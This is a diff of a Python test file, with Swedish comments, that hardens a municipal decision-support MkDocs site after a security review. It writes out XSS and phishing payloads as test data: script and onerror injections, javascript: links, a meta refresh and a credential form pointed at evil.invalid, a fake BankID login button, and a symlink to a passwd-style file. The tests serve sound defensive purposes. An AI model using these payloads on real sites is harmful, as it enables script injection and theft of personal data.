@@ -2,11 +2,15 @@
 
 Två skydd testas var för sig:
 
-1. ``check`` stoppar HTML och farliga länkar i varje fälttyp, med fil och rad (Python, snabbt).
+1. ``check`` stoppar HTML och farliga länkar i varje fälttyp, med fil och rad (Python, snabbt), också
+   de vägar förbi kontrollen som granskningen i december 2026 hittade (escapade bakåtapostrofer, ett
+   indraget ```, referenslänkar, java<radbrytning>script:, NUL, riktningstecken, 700 nivåer lista,
+   dubbla id:n i mallen, symboliska länkar).
 2. Om något ändå skulle slinka igenom är det ofarligt: en kopia av innehållet med fientliga värden
-   i varje fälttyp byggs förbi ``check`` (modellen ändras direkt), visas på sin site_url med sajtens
-   Content-Security-Policy, och i Chromium körs inget, inget anrop lämnar sajten och titlarna visas
-   som vanlig text.
+   i varje fälttyp byggs förbi ``check`` (modellen ändras direkt), men med kroken som tvättar sidornas
+   HTML (build_tools/html_guard.py). Ingen fientlig tagg, inget attribut och ingen farlig länk finns i
+   sidorna. I Chromium körs inget, ingen sida byter adress, inget anrop lämnar sajten och titlarna
+   visas som vanlig text: med sajtens Content-Security-Policy och även utan den (tvätten ensam).
 """
 
 from __future__ import annotations
@@ -15,12 +19,14 @@ import dataclasses
 import datetime as dt
 import re
 import shutil
+from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 
 from build_tools.adapters.node_data import write_node_data
 from build_tools.base.diagnostics import Report
+from build_tools.base.url_rule import safe_url
 from build_tools.devtools.site_server import ROOT, ServedSite, mkdocs_build, reserve_server, start
 from build_tools.domain.model import Contact, Outcome, Question
 from build_tools.load.project import Layout, load_project
@@ -35,7 +41,17 @@ TITLE_BREAKOUT = "</title><script>window.__pwned = 'title'</script>"
 IFRAME = '<iframe src="https://example.com/ram"></iframe>'
 JS_LINK = "[klicka här](javascript:window.__pwned='link')"
 HOSTILE_TITLE = "Elev <b>avstängd</b> " + IMG + TITLE_BREAKOUT
-HOSTILE_MARKDOWN = f"Text före.\n\n{SCRIPT}\n\n{IMG}\n\n{IFRAME}\n\n{JS_LINK}\n\n{BREAKOUT}"
+# Vägarna förbi den gamla kontrollen (granskningen 2026-12-06, H1): de ska vara ofarliga även förbi check.
+ESCAPED_REFRESH = '\\`<meta http-equiv="refresh" content="0;url=https://evil.invalid/">\\`'
+REFERRER = '<meta name="referrer" content="unsafe-url">'
+BUTTON = '<a class="md-button md-button--primary" href="https://evil.invalid/">Logga in med BankID</a>'
+FORM = '<form action="https://evil.invalid/"><input name="pnr"><button>Skicka</button></form>'
+REFERENCE_LINK = "[referenslänk][r]\n\n[r]: javascript:window.__pwned='ref'"
+INDENTED_FENCE = "    ```"
+HOSTILE_MARKDOWN = (
+    f"Text före.\n\n{SCRIPT}\n\n{IMG}\n\n{IFRAME}\n\n{JS_LINK}\n\n{BREAKOUT}\n\n{ESCAPED_REFRESH}\n\n"
+    f"{INDENTED_FENCE}\n\n{REFERRER}\n\n{BUTTON}\n\n{FORM}\n\n{REFERENCE_LINK}\n\nNUL:\x00:slut \u202eRLO\u202c\n"
+)
 
 
 # ---- 1. check säger ifrån, med fil och rad ----
@@ -95,6 +111,32 @@ INJECTIONS = [
     ("guides/stod/bus.md", re.compile(r"^## ", re.M), "<script>alert(1)</script>\n\n## ", "html"),
     ("guides/stod/bus.md", re.compile(r'^beskrivning: "', re.M), 'beskrivning: "<script>alert(1)</script> ', "html"),
     ("docs/om.md", re.compile(r"^## ", re.M), "[x](vbscript:msgbox)\n\n## ", "farlig-lank"),
+    # Vägarna förbi den gamla kontrollen, i alla tre sorters sidor.
+    ("guides/stod/bus.md", re.compile(r"^## ", re.M), ESCAPED_REFRESH + "\n\n## ", "html"),
+    ("guides/roller/larare.md", re.compile(r"^## ", re.M), "    ```\n\n<img src=x onerror=alert(1)>\n\n## ", "html"),
+    ("docs/om.md", re.compile(r"^## ", re.M), "[länk][r]\n\n[r]: javascript:alert(1)\n\n## ", "farlig-lank"),
+    ("docs/om.md", re.compile(r"^## ", re.M), "\\`" + REFERRER + "\\`\n\n## ", "html"),
+    ("guides/roller/larare.md", re.compile(r"^## ", re.M), BUTTON + "\n\n## ", "html"),
+    ("guides/stod/bus.md", re.compile(r"^## ", re.M), "a\x00b\n\n## ", "styrtecken"),
+    ("guides/stod/bus.md", re.compile(r"^## ", re.M), "Ring \u202e211 etni\u202c.\n\n## ", "riktningstecken"),
+    (
+        "decision_trees/elev-avstangd.yaml",
+        re.compile(r"^titel: .*$", re.M),
+        'titel: "Ring \u202e211"',
+        "riktningstecken",
+    ),
+    (
+        "data/stadsdelar.yaml",
+        re.compile(r"^(\s+)varde: https://.*$", re.M),
+        r'\1varde: "java\\nscript:alert(1)"',
+        "farlig-lank",
+    ),
+    (
+        "data/overenskommelse_mall.yaml",
+        re.compile(r"^  - id: giltighetstid$", re.M),
+        "  - id: parter",
+        "dubblett-mall-id",
+    ),
 ]
 
 
@@ -117,6 +159,29 @@ def test_check_reports_html_and_dangerous_links_with_file_and_line(tmp_path, fil
     assert any(expected_line <= d.location.line <= expected_line + 2 for d in found), [
         (d.location.line, expected_line) for d in found
     ]
+
+
+def test_a_700_level_list_is_an_error_within_seconds(tmp_path):
+    root = _copy_content(tmp_path)
+    path = root / "guides" / "stod" / "bus.md"
+    text = path.read_text(encoding="utf-8")
+    path.write_text(text + "\n" + "\n".join("    " * i + "- nivå" for i in range(700)) + "\n", encoding="utf-8")
+    _, report = load_project(Layout(root), TEST_DAY)
+    first = text.count("\n") + 2  # listans första rad; felet gäller den 21:a nivån
+    assert [(d.code, d.location.path, d.location.line) for d in report.errors] == [("markdown-djup", path, first + 20)]
+
+
+def test_a_symlink_to_a_file_outside_is_refused_and_not_quoted(tmp_path):
+    root = _copy_content(tmp_path)
+    secret = tmp_path / "hemlig.txt"
+    secret.write_text("root:x:0:0:hemlig-rad:/root:/bin/bash\n" * 40, encoding="utf-8")
+    for link in (root / "docs" / "passwd.txt", root / "decision_trees" / "passwd.yaml", root / "data" / "x.yaml"):
+        link.symlink_to(secret)
+    _, report = load_project(Layout(root), TEST_DAY)
+    assert sorted(d.location.path.name for d in report.errors if d.code == "inte-vanlig-fil") == [
+        "passwd.txt", "passwd.yaml", "x.yaml"
+    ]  # fmt: skip
+    assert "hemlig-rad" not in "\n".join(d.format(root) for d in report.items)
 
 
 # ---- 2. Det som ändå skulle slinka igenom är ofarligt ----
@@ -170,7 +235,10 @@ def _hostile_project():
         dataclasses.replace(d, name=d.name + " " + IMG, contacts=(evil, *d.contacts)) if i == 0 else d
         for i, d in enumerate(project.districts)
     ]
-    project.city_contacts = [evil, *project.city_contacts]
+    newline = dataclasses.replace(
+        evil, value="java\nscript:window.__pwned='newline'", href="java\nscript:window.__pwned='newline'"
+    )
+    project.city_contacts = [evil, newline, *project.city_contacts]
     return project
 
 
@@ -178,13 +246,21 @@ def _hostile_project():
 def hostile_site(tmp_path_factory) -> ServedSite:
     root = tmp_path_factory.mktemp("fientlig")
     shutil.copytree(ROOT / "docs", root / "docs")
+    with (root / "docs" / "om.md").open("a", encoding="utf-8") as handwritten:
+        handwritten.write("\n\n" + HOSTILE_MARKDOWN)
     write_site(_hostile_project(), Layout(root))
-    # Samma konfiguration som sajten, men utan kroken som annars läser in (och kontrollerar) innehållet.
+    # Samma konfiguration som sajten, men med en krok som bara tvättar sidorna: kontrollen av innehållet
+    # (on_config i build_tools/mkdocs_hooks.py) körs inte, så det fientliga innehållet når MkDocs.
     config = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
-    config = re.sub(r"(?m)^hooks:\n(  - .*\n)+", "", config)
+    config = re.sub(r"(?m)^hooks:\n(  - .*\n)+", "hooks:\n  - bara_tvatten.py\n", config)
     config = re.sub(r"(?ms)^watch:\n(  - .*?\n)+", "", config)
     config = config.replace("custom_dir: overrides", f"custom_dir: {ROOT / 'overrides'}")
     (root / "mkdocs.yml").write_text(config, encoding="utf-8")
+    (root / "bara_tvatten.py").write_text(
+        f"import sys\nsys.path.insert(0, {str(ROOT)!r})\n"
+        "from build_tools.adapters.mkdocs_hooks import on_page_content, on_page_markdown  # noqa: F401\n",
+        encoding="utf-8",
+    )
     site = reserve_server(root / "site")
     mkdocs_build(root / "mkdocs.yml", root / "site", site.base_url)
     write_node_data(root / "site", _hostile_project())  # det kroken annars gör efter bygget (svar på plats)
@@ -193,9 +269,54 @@ def hostile_site(tmp_path_factory) -> ServedSite:
     site.stop()
 
 
-def test_the_hostile_copy_really_contains_the_payloads(hostile_site):
-    page = (hostile_site.directory / "stod" / "bus" / "index.html").read_text(encoding="utf-8")
-    assert "<script>window.__pwned" in page  # kapitlets brödtext går rakt in: bara CSP står emellan
+class _Tags(HTMLParser):
+    """Alla starttaggar i en sida, med attribut (som webbläsaren läser dem: entiteter avkodade)."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str]]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, {name: value or "" for name, value in attrs}))
+
+
+def _what_can_act(page_html: str) -> list[str]:
+    parser = _Tags()
+    parser.feed(page_html)
+    found = []
+    for tag, attrs in parser.tags:
+        found += [f"{tag} {name}" for name in attrs if name.startswith("on")]
+        found += [
+            f"{tag} {name}={attrs[name]!r}"
+            for name in ("href", "src", "action")
+            if name in attrs and safe_url(attrs[name]) is None
+        ]
+        if tag == "meta" and ("http-equiv" in attrs and attrs["http-equiv"].lower() != "content-security-policy"):
+            found.append(f"meta http-equiv={attrs['http-equiv']}")
+        if tag == "meta" and attrs.get("name") == "referrer" and attrs.get("content") != "no-referrer":
+            found.append("meta referrer " + attrs.get("content", ""))
+        if tag in ("iframe", "object", "embed", "base") or (
+            tag == "script" and not ("src" in attrs or attrs.get("type") == "application/json")
+        ):
+            found.append(tag)
+        if "evil.invalid" in attrs.get("action", "") or ("evil.invalid" in attrs.get("href", "") and "class" in attrs):
+            found.append(f"{tag} till evil.invalid med {attrs}")
+    return found
+
+
+def test_the_payloads_reach_the_build_but_not_the_pages(hostile_site):
+    source = (hostile_site.directory.parent / "build" / "docs" / "stod" / "bus" / "index.md").read_text(
+        encoding="utf-8"
+    )
+    assert "<script>window.__pwned" in source and ESCAPED_REFRESH in source  # förbi check, rakt in i MkDocs
+    pages = sorted(hostile_site.directory.rglob("*.html"))
+    assert len(pages) > 100
+    for path in pages:
+        text = path.read_text(encoding="utf-8")
+        assert "\x00" not in text and "<script>window.__pwned" not in text, path
+        assert _what_can_act(text) == [], path
+    bus = (hostile_site.directory / "stod" / "bus" / "index.html").read_text(encoding="utf-8")
+    assert "Logga in med BankID" in bus and "NUL::slut" in bus  # texten står kvar, som text
 
 
 PAGES = [
@@ -203,6 +324,7 @@ PAGES = [
     "/beslutsstod/elev-avstangd/{start}/#svar=",
     "/beslutsstod/elev-avstangd/{outcome}/",
     "/stod/bus/",
+    "/om/",
     "/ovningsfall/{case}/",
     "/stadsdelar/",
     "/stadsdelar/{district}/",
@@ -216,12 +338,7 @@ def test_hostile_content_is_inert_under_the_sites_policy(page, hostile_site, req
     outcome = next(n for n in tree.nodes.values() if isinstance(n, Outcome) and n.show_contacts)
     values = {"start": tree.start, "outcome": outcome.id, "case": project.cases[0].id, "district": ""}
     values["district"] = project.districts[0].slug
-    for url in PAGES:
-        page.goto(hostile_site.base_url + url.format(**values))
-        page.wait_for_load_state("networkidle")
-        for link in page.locator("a[href^='javascript:' i]").all():
-            link.click(force=True, no_wait_after=True)
-        assert page.evaluate("() => window.__pwned") is None, url
+    _visit_and_click(page, hostile_site, values)
     # Titeln visas som text, i rubriken och i fönstrets titel.
     page.goto(hostile_site.base_url + f"/beslutsstod/elev-avstangd/{outcome.id}/")
     assert "<img" in page.locator(".md-content h1").inner_text()
@@ -241,11 +358,46 @@ def test_hostile_content_is_inert_under_the_sites_policy(page, hostile_site, req
     assert requests_log.all
 
 
+def _visit_and_click(page, site: ServedSite, values: dict[str, str]) -> None:
+    for url in PAGES:
+        page.goto(site.base_url + url.format(**values))
+        page.wait_for_load_state("networkidle")
+        for link in page.locator("a[href^='javascript:' i], a[href*='script:' i]").all():
+            link.click(force=True, no_wait_after=True)
+        assert page.evaluate("() => window.__pwned") is None, url
+        assert page.url.startswith(site.base_url), url  # ingen meta refresh till en annan webbplats
+        assert page.locator("meta[http-equiv='refresh' i], meta[name='referrer'][content='unsafe-url']").count() == 0
+
+
+@pytest.mark.browser
+def test_the_sanitiser_alone_makes_the_content_inert(page, hostile_site, requests_log):
+    """Samma sidor utan Content-Security-Policy: tvätten ensam räcker."""
+
+    def without_policy(route):
+        if route.request.resource_type != "document":
+            route.fallback()
+            return
+        response = route.fetch()
+        body = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", response.text())
+        route.fulfill(response=response, body=body)
+
+    page.route("**/*", without_policy)
+    project = _hostile_project()
+    tree = project.trees["elev-avstangd"]
+    outcome = next(n for n in tree.nodes.values() if isinstance(n, Outcome) and n.show_contacts)
+    values = {"start": tree.start, "outcome": outcome.id, "case": project.cases[0].id}
+    values["district"] = project.districts[0].slug
+    _visit_and_click(page, hostile_site, values)
+    assert page.locator("meta[http-equiv='Content-Security-Policy']").count() == 0  # policyn var borta
+    assert requests_log.all
+
+
 def test_check_would_have_stopped_every_payload():
     """Samma nyttolaster som text i YAML: varje fälttyp ger ett fel i check."""
     from build_tools.source.yaml_source import parse_yaml
 
-    for payload in (SCRIPT, IMG, BREAKOUT, TITLE_BREAKOUT, IFRAME, JS_LINK, "javascript:alert(1)"):
+    payloads = (SCRIPT, IMG, BREAKOUT, TITLE_BREAKOUT, IFRAME, JS_LINK, "javascript:alert(1)", ESCAPED_REFRESH)
+    for payload in (*payloads, REFERRER, BUTTON, FORM, REFERENCE_LINK.replace("\n\n", "\n\n  ")):
         report = Report()
         parse_yaml("titel: |\n  " + payload + "\n", Path("x.yaml"), report)
         assert [d.code for d in report.errors] and {d.code for d in report.errors} <= {"html", "farlig-lank"}, payload
